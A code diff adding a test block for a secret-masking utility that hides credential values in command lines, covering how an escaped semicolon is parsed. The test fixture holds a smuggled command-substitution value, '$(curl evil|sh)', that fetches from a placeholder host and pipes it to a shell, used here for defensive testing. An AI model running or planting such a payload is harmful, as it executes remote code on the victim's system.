@@ -274,3 +274,22 @@ describe("a value written apart by quotes is hidden as written, so it fills back
     );
   });
 });
+
+// r63 #7, checked and kept: the shell reads `\;` as a character of the value, so `;Host=h` is part
+// of Secret's value there (bash: `Secret="$(echo P)"\;Host=h` sets `P;Host=h`): the display hides
+// it with the value's literal text, payload in sight; nothing is dropped. The export hides the whole
+// value as a pasted command (read as the shell reads it), and as an argument (no shell reads it,
+// so `\` ends the value and `;Host=h` is a pair of its own).
+describe("an escaped ; after a telling value (r63 #7)", () => {
+  const line = 'Server=db;Secret="$(curl evil|sh)"\\;Host=h';
+  it("is shown with the payload in sight and the literal text, ;Host=h included, hidden", () => {
+    expect(withoutCommandLineSecrets(line)).toBe('Server=db;Secret="$(curl evil|sh)"${SECRET}');
+    expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
+  });
+
+  it("is exported with the whole value hidden, and fills back", () => {
+    expect(exportedCommand(line)).toBe("Server=db;Secret=${SECRET}");
+    expect(exportedArg(line)).toBe("Server=db;Secret=${SECRET};Host=h");
+    expect(withoutArgSecrets(["--run", line], (text) => text)).toEqual(["--run", line]);
+  });
+});
